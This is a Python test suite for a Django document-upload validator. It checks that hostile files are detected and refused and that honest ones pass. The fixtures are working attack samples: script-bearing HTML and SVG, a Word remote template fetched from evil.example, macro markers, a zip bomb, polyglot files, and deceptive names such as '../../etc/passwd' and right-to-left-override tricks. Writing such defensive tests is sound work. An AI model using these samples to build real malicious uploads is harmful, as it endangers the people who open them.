"""Whatever a stranger sends is known by its content, refused by a form with a reason, and opened nowhere."""

import gzip
import io
import random
import struct
import time
import tracemalloc
import zlib
from typing import Any

import pytest
from django import forms
from django.core.files.uploadedfile import SimpleUploadedFile

from dalil.vault.evidence.forms import DocumentUpload, seen
from dalil.vault.evidence.looking import Looked, Oddity, kinds, look_at
from dalil.vault.evidence.looking.look import Limits
from dalil.vault.evidence.looking.names import is_unsafe, told
from tests.vault.evidence_setting import MINUTES, zipped

pytestmark = pytest.mark.t22


class Claim(forms.Form):
    """As a room would ask for a document."""

    document = DocumentUpload()


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width: int, height: int, *more: bytes) -> bytes:
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(more) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def jpeg(width: int, height: int, *segments: bytes) -> bytes:
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\1\x11\0"
    return b"\xff\xd8" + b"".join(segments) + frame + b"\xff\xd9"


def exif(*entries: tuple[int, bytes]) -> bytes:
    offset, directory, values = 8 + 2 + 12 * len(entries), b"", b""
    for tag, value in entries:
        directory += struct.pack(">HHII", tag, 2, len(value), offset + len(values))
        values += value
    body = b"Exif\0\0MM\0*\0\0\0\x08" + struct.pack(">H", len(entries)) + directory + values
    return b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body


def docx(*more: tuple[str, bytes]) -> bytes:
    return zipped([("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w/>"), *more])


def pdf(body: bytes) -> bytes:
    return b"%PDF-1.7\n" + body + b"\n%%EOF\n"


def object_stream(content: bytes) -> bytes:
    packed = zlib.compress(content)
    return b"5 0 obj<</Type/ObjStm/Length %d>>stream\n%s\nendstream" % (len(packed), packed)


def bomb() -> bytes:
    return zipped([("a.bin", bytes(210 << 20))])


def nested() -> bytes:
    inner = zipped([("x.txt", b"x")])
    for _ in range(10):
        inner = zipped([("in.zip", inner)])
    return inner


REMOTE = (
    b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" '
    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
LINK = REMOTE.replace(b"attachedTemplate", b"hyperlink")
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HOSTILE: dict[str, tuple[str, bytes, str, Oddity | None]] = {
    "HTML named .pdf": ("a.pdf", HTML, kinds.HTML, Oddity.OTHER_THAN_NAMED),
    "HTML in UTF-16": ("a.txt", HTML.decode().encode("utf-16"), kinds.HTML, Oddity.SCRIPT),
    "HTML after a comment": ("a.txt", b"\n <!-- x --> <body onload=x>", kinds.HTML, Oddity.SCRIPT),
    "SVG with script": ("a.svg", SVG, kinds.SVG, Oddity.SCRIPT),
    "SVG named .png": ("a.png", SVG, kinds.SVG, Oddity.OTHER_THAN_NAMED),
    "XML with entities": (
        "a.xml",
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a/>',
        kinds.XML,
        Oddity.SCRIPT,
    ),
    "program named .pdf": (
        "a.pdf",
        b"MZ" + bytes(500),
        "application/vnd.microsoft.portable-executable",
        Oddity.OTHER_THAN_NAMED,
    ),
    "office file with macro": ("a.docx", docx(("word/vbaProject.bin", b"x")), kinds.WORD, Oddity.MACRO),
    "office file with remote template": ("a.docx", docx(("word/_rels/s.xml.rels", REMOTE)), kinds.WORD, Oddity.REMOTE),
    "old office file with macro": (
        "a.doc",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "_VBA_PROJECT".encode("utf-16-le"),
        kinds.OLE,
        Oddity.MACRO,
    ),
    "archive bomb named .docx": (
        "a.docx",
        zipped([("[Content_Types].xml", b""), ("word/a", bytes(210 << 20))]),
        kinds.WORD,
        Oddity.UNPACKS_TOO_LARGE,
    ),
    "archive in an archive": ("a.zip", nested(), kinds.ZIP, Oddity.NESTED),
    "picture of 100 megapixels": ("a.png", png(10_000, 10_000), kinds.PNG, Oddity.TOO_MANY_PIXELS),
    "photograph of 100 megapixels": ("a.jpg", jpeg(10_000, 10_000), kinds.JPEG, Oddity.TOO_MANY_PIXELS),
    "PDF of 10,000 pages": ("a.pdf", pdf(b"<</Type/Page>>\n" * 10_000), kinds.PDF, Oddity.TOO_MANY_PAGES),
    "PDF that says 10,000 pages": ("a.pdf", pdf(b"<</Type/Pages/Count 10000>>"), kinds.PDF, Oddity.TOO_MANY_PAGES),
    "PDF with its pages packed": (
        "a.pdf",
        pdf(object_stream(b"<</Type/Page>>" * 10_000)),
        kinds.PDF,
        Oddity.TOO_MANY_PAGES,
    ),
    "PDF with a script": ("a.pdf", pdf(b"<</S/JavaScript/JS(x)>>"), kinds.PDF, Oddity.SCRIPT),
    "PDF with a script spelt in numbers": ("a.pdf", pdf(b"<</S/J#61vaScript>>"), kinds.PDF, Oddity.SCRIPT),
    "PDF that is locked": ("a.pdf", pdf(b"trailer<</Encrypt 5 0 R>>"), kinds.PDF, Oddity.LOCKED),
    "PDF cut off": ("a.pdf", b"%PDF-1.7\n<</Type/Page>>", kinds.PDF, Oddity.BROKEN),
    "ZIP hung on a picture": ("a.png", png(1, 1) + zipped([("a.html", HTML)]), kinds.PNG, Oddity.TWO_KINDS),
    "page in a picture": ("a.gif", b"GIF89a\1\0\1\0" + HTML, kinds.GIF, Oddity.TWO_KINDS),
    "PDF that begins later": ("a.jpg", jpeg(1, 1) + pdf(b""), kinds.JPEG, Oddity.TWO_KINDS),
    "cut-off ZIP": ("a.docx", docx()[:-30], kinds.ZIP, Oddity.BROKEN),
    "nothing": ("a.pdf", b"", kinds.UNKNOWN, Oddity.EMPTY),
    "noise named .pdf": ("a.pdf", bytes(range(256)) * 9, kinds.UNKNOWN, Oddity.OTHER_THAN_NAMED),
    "turned name": ("minutes\u202efdp.exe.pdf", MINUTES, kinds.PDF, Oddity.UNSAFE_NAME),
}


def looked(content: bytes, name: str) -> Looked:
    return look_at(io.BytesIO(content), name)


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_file_is_known_for_what_it_is_quickly_and_refused_by_name_of_its_field(case: str) -> None:
    name, content, kind, oddity = HOSTILE[case]
    began = time.perf_counter()
    found = looked(content, name)
    took = time.perf_counter() - began

    assert found.kind == kind
    assert oddity in found.oddities, sorted(found.oddities)
    assert took < 1
    form = Claim(files={"document": SimpleUploadedFile(name, content)})
    assert not form.is_valid() and list(form.errors) == ["document"]
    assert all(str(sentence).strip() for sentence in form.errors["document"])


HONEST = {
    "PDF": ("minutes.pdf", pdf(b"<</Type/Pages/Count 2>><</Type/Page>><</Type/Page>>"), kinds.PDF),
    "photograph": ("صورة المقر.jpg", jpeg(4000, 3000), kinds.JPEG),
    "picture": ("scan.PNG", png(2480, 3508), kinds.PNG),
    "letter": ("رسالة.docx", docx(("word/_rels/document.xml.rels", LINK)), kinds.WORD),
    "text": ("note.txt", "ملاحظة من بيرزيت\n".encode(), kinds.TEXT),
    "text in UTF-16": ("note.txt", "minutes".encode("utf-16"), kinds.TEXT),
}


@pytest.mark.parametrize("case", HONEST)
def test_an_honest_document_passes_with_what_was_seen_of_it(case: str) -> None:
    name, content, kind = HONEST[case]
    form = Claim(files={"document": SimpleUploadedFile(name, content)})

    assert form.is_valid(), form.errors
    upload = form.cleaned_data["document"]
    assert seen(upload).kind == kind and seen(upload).oddities == frozenset()
    assert upload.read() == content


def test_an_archive_that_unpacks_to_much_more_is_never_unpacked() -> None:
    content = bomb()
    tracemalloc.start()
    found = looked(content, "a.zip")
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert found.kind == kinds.ZIP and Oddity.UNPACKS_TOO_LARGE in found.oddities
    assert most < 4 << 20


def test_an_archive_with_too_many_parts_is_refused_before_its_list_is_read() -> None:
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 60_000, 60_000, 3_000_000, 0, 0)

    assert looked(b"PK\x03\x04" + bytes(100) + end, "a.zip").oddities >= {Oddity.TOO_MANY_PARTS}


def test_too_large_is_said_with_the_limit() -> None:
    field = DocumentUpload(limits=Limits(size=100))
    with pytest.raises(forms.ValidationError) as refusal:
        field.clean(SimpleUploadedFile("a.pdf", MINUTES + bytes(100)))
    assert refusal.value.code == "size" and "100" in refusal.value.messages[0]


@pytest.mark.parametrize("case", [*HOSTILE, *HONEST])
def test_a_file_cut_off_anywhere_is_looked_at_without_a_fault(case: str) -> None:
    name, content = ({**HOSTILE, **HONEST}[case])[:2]
    for size in (0, 1, 5, 11, 13, 17, 25, 40, 64):
        looked(content[:size], name)
        looked(content[: len(content) * size // 70], name)


def test_noise_after_every_beginning_is_looked_at_without_a_fault() -> None:
    chance = random.Random(3)
    for start, _ in kinds._STARTS:
        for _ in range(30):
            looked(start + chance.randbytes(chance.randrange(3000)), "a.bin")
    for content in (png(9, 9), jpeg(9, 9, exif((0x13B, b"x"))), docx(), MINUTES):
        for _ in range(60):
            noisy = bytearray(content)
            noisy[chance.randrange(len(noisy))] = chance.randrange(256)
            looked(bytes(noisy), "a.bin")


def test_a_gzip_is_an_archive_and_no_document() -> None:
    assert looked(gzip.compress(bytes(100)), "a.gz").kind in kinds.ARCHIVES - DocumentUpload().allowed


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd",
        "a\\b.pdf",
        "a\0.pdf",
        "a\u202efdp.exe",
        "a\u200b.pdf",
        " a.pdf",
        "CON.pdf",
        "..",
        "",
        "a" * 501,
    ],
)
def test_a_name_that_can_deceive_is_told(name: str) -> None:
    assert is_unsafe(name)
    shown = told(name)
    assert len(shown) < 4000 and shown.isprintable() and bool(shown.encode()) == bool(name)


@pytest.mark.parametrize("name", ["محضر الاجتماع.pdf", "פרוטוקול 3.pdf", "procès-verbal (2).docx", "a.tar.gz"])
def test_a_name_in_any_language_is_fine(name: str) -> None:
    assert not is_unsafe(name) and told(name) == name


def test_what_a_file_says_of_its_maker_is_shown() -> None:
    photo = jpeg(10, 10, exif((0x010F, b"Canon\0\0"), (0x013B, b"Rim Saad\0")))
    picture = png(10, 10, chunk(b"tEXt", b"Author\0Rim Saad"))
    document = pdf(b"<</Author (Rim \\(R.\\) Saad)/Producer (\xfe\xff\0W)>>")
    letter = docx(("docProps/core.xml", b"<c><dc:creator>Rim &amp; Co</dc:creator></c>"))

    assert looked(photo, "a.jpg").metadata == {"Make": "Canon", "Artist": "Rim Saad"}
    assert looked(picture, "a.png").metadata == {"Author": "Rim Saad"}
    assert looked(document, "a.pdf").metadata == {"Author": "Rim (R.) Saad", "Producer": "W"}
    assert looked(letter, "a.docx").metadata == {"creator": "Rim & Co"}


def test_a_position_is_shown_as_such() -> None:
    body = b"Exif\0\0MM\0*\0\0\0\x08" + struct.pack(">HHHII", 1, 0x8825, 4, 1, 26) + bytes(20)
    photo = jpeg(10, 10, b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body)

    assert looked(photo, "a.jpg").metadata == {"GPS": "position"}


def test_a_look_leaves_the_file_at_its_beginning_and_as_it_was() -> None:
    file: Any = io.BytesIO(MINUTES)
    look_at(file, "a.pdf")
    assert file.read() == MINUTES
